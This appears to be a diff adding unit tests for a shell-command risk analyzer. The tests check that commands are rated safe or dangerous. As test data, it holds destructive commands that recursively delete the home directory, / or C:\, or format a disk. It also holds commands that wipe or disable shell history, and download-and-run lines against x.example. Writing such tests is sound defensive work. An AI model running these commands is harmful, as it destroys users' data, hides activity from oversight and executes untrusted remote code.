@@ -1,0 +1,157 @@
+import { beforeAll, describe, expect, it } from "vitest";
+import { createShellAnalyzer, type ShellAnalyzer } from "./analyze.js";
+import type { Risk, ShellKind } from "./types.js";
+
+/**
+ * Values the analysis follows to where they are used: a loop's literal list, the arguments of
+ * `sh -c`, a download kept in a variable, and the line `cmd /c` runs; and writes that stop the
+ * shell's history.
+ */
+const cwd = "/home/ada/code/app";
+const home = "/home/ada";
+
+let analyzer: ShellAnalyzer;
+beforeAll(async () => {
+  analyzer = await createShellAnalyzer();
+});
+
+function rated(command: string, shell: ShellKind = "bash"): { risk: Risk; shown: string; details: string[] } {
+  const result = analyzer.analyze(command, { shell, cwd, home });
+  return { risk: result.risk, shown: `${shell}: ${JSON.stringify(command)} → ${result.risk} ${JSON.stringify(result.reasons)}`, details: result.reasons.map((r) => r.detail) };
+}
+
+describe("a loop over a literal list runs its body with each value", () => {
+  it.each<[string, string]>([
+    ["for d in ~ /; do rm -rf $d; done", "deletes /home/ada recursively"],
+    ["for d in build ~; do rm -rf \"$d\"; done", "deletes /home/ada recursively"],
+    ["for d in a /; do echo $d; done; rm -rf $d", "deletes / recursively"],
+    ["for a in 1 2; do for d in ~ /tmp/x; do rm -rf $d; done; done", "deletes /home/ada recursively"],
+  ])("%j is critical", (command, detail) => {
+    const r = rated(command);
+    expect(r.risk, r.shown).toBe("critical");
+    expect(r.details, r.shown).toContain(detail);
+  });
+
+  it.each<[string, Risk]>([
+    ["for d in build dist; do rm -rf $d; done", "moderate"],
+    ["for f in a.txt b.txt; do cat $f; done", "safe"],
+    // Files a pattern matches are not known: the variable stays unknown.
+    ["for f in *.log; do rm -rf \"$f\"; done", "high"],
+  ])("%j is %s", (command, risk) => {
+    const r = rated(command);
+    expect(r.risk, r.shown).toBe(risk);
+  });
+});
+
+describe("sh -c reads its script with the positional parameters that follow it", () => {
+  it.each<[ShellKind, string, string]>([
+    ["bash", "sh -c 'rm -rf \"$1\"' _ ~", "deletes /home/ada recursively"],
+    ["bash", "bash -c 'rm -rf $1' x ~", "deletes /home/ada recursively"],
+    ["zsh", "bash -c 'rm -rf \"$@\"' x /", "deletes / recursively"],
+    ["bash", "sh -c 'rm -rf \"$2\"' _ build ~", "deletes /home/ada recursively"],
+    // A parameter not given is empty.
+    ["bash", "sh -c 'rm -rf \"$1\"/' _", "deletes / recursively"],
+    ["bash", "echo ~ | xargs sh -c 'rm -rf \"$1\"' _", "deletes /home/ada recursively"],
+  ])("%s: %j is critical", (shell, command, detail) => {
+    const r = rated(command, shell);
+    expect(r.risk, r.shown).toBe("critical");
+    expect(r.details, r.shown).toContain(detail);
+  });
+
+  it.each<[string, Risk]>([
+    ["sh -c 'rm -rf \"$1\"' _ build", "moderate"],
+    ["sh -c 'echo \"$0: $1\"' me hello", "safe"],
+    ["sh -c 'rm -rf \"$1\"' _ \"$TARGET\"", "high"],
+  ])("%j is %s", (command, risk) => {
+    const r = rated(command);
+    expect(r.risk, r.shown).toBe(risk);
+  });
+});
+
+describe("turning off or wiping the shell history", () => {
+  it.each<[ShellKind, string, Risk]>([
+    ["bash", "ln -sf /dev/null ~/.bash_history", "high"],
+    ["bash", "> ~/.bash_history", "high"],
+    ["bash", "cat /dev/null > ~/.zsh_history", "high"],
+    ["bash", "rm ~/.zsh_history", "high"],
+    ["bash", "rm -f ~/.local/share/fish/fish_history", "high"],
+    ["bash", "unset HISTFILE", "moderate"],
+    ["zsh", "export HISTFILE=/dev/null", "moderate"],
+    ["bash", "HISTSIZE=0", "moderate"],
+    ["bash", "set +o history", "moderate"],
+    ["bash", "history -c", "moderate"],
+    ["powershell", "Set-PSReadLineOption -HistorySaveStyle SaveNothing", "moderate"],
+  ])("%s: %j is %s", (shell, command, risk) => {
+    const r = rated(command, shell);
+    expect(r.risk, r.shown).toBe(risk);
+  });
+
+  it.each([
+    "cat ~/.bash_history | grep docker",
+    "history | tail -20",
+    "export HISTSIZE=10000",
+    "unset FOO; echo done",
+    "set -o history",
+  ])("%j stays safe", (command) => {
+    const r = rated(command);
+    expect(r.risk, r.shown).toBe("safe");
+  });
+
+  it("an unset variable is empty where it is used", () => {
+    const r = rated("x=build; unset x; rm -rf \"$x\"/");
+    expect(r.risk, r.shown).toBe("critical");
+  });
+});
+
+describe("a download kept in a variable and run later", () => {
+  it.each<[ShellKind, string]>([
+    ["powershell", "$s = iwr https://x.example/y.ps1; iex $s"],
+    ["powershell", "$s = (iwr https://x.example/y.ps1).Content; Invoke-Expression $s"],
+    ["powershell", "$s = (New-Object Net.WebClient).DownloadString('https://x.example'); iex $s"],
+    ["powershell", "$s = irm https://x.example/y.ps1; $s | iex"],
+    ["bash", "s=$(curl -s https://x.example/y); eval \"$s\""],
+    ["bash", "s=$(curl -s https://x.example/y); bash -c \"$s\""],
+  ])("%s: %j is critical", (shell, command) => {
+    const r = rated(command, shell);
+    expect(r.risk, r.shown).toBe("critical");
+    expect(r.details.some((d) => /downloads code and runs it/.test(d)), r.shown).toBe(true);
+  });
+
+  it.each<[ShellKind, string]>([
+    ["powershell", "$s = irm https://x.example/y.json; $s.name"],
+    ["powershell", "$s = iwr https://x.example/y.ps1; $s = 'Get-Date'; iex $s"],
+    ["bash", "s=$(curl -s https://x.example/y.json); echo \"$s\" | jq ."],
+  ])("%s: %j is not run as code", (shell, command) => {
+    const r = rated(command, shell);
+    expect(r.details.some((d) => /downloads code and runs it/.test(d)), r.shown).toBe(false);
+  });
+});
+
+describe("the line cmd /c runs is analysed", () => {
+  it.each<[ShellKind, string, string]>([
+    ["powershell", "cmd /c rd /s /q C:\\", "deletes C:\\ recursively"],
+    ["bash", "cmd.exe /c 'rd /s /q C:\\'", "deletes C:\\ recursively"],
+    ["powershell", "cmd /c \"del /f /s /q %USERPROFILE%\"", "deletes /home/ada recursively"],
+    ["bash", "cmd.exe /C \"del /f /s /q %USERPROFILE%\"", "deletes /home/ada recursively"],
+    ["powershell", "cmd.exe /k \"echo hi & rd /s /q %SystemRoot%\"", "deletes C:\\Windows recursively"],
+    ["powershell", "cmd /c \"cmd /c rd /s /q C:\\\"", "deletes C:\\ recursively"],
+    ["powershell", "cmd /c \"format C: /q\"", "erases a disk or volume"],
+  ])("%s: %j is critical", (shell, command, detail) => {
+    const r = rated(command, shell);
+    expect(r.risk, r.shown).toBe("critical");
+    expect(r.details, r.shown).toContain(detail);
+  });
+
+  it.each<[string, Risk]>([
+    ["cmd /c dir", "safe"],
+    ["cmd /c \"echo hi & dir /b\"", "safe"],
+    ["cmd /c \"mkdir build && copy a.txt build\"", "safe"],
+    ["cmd /c \"npm install 2>&1\"", "safe"],
+    ["cmd /c \"rd /s /q build\"", "moderate"],
+    // A variable wren cannot know stays unknown.
+    ["cmd /c \"del /s /q %FOO%\"", "high"],
+  ])("powershell: %j is %s", (command, risk) => {
+    const r = rated(command, "powershell");
+    expect(r.risk, r.shown).toBe(risk);
+  });
+});
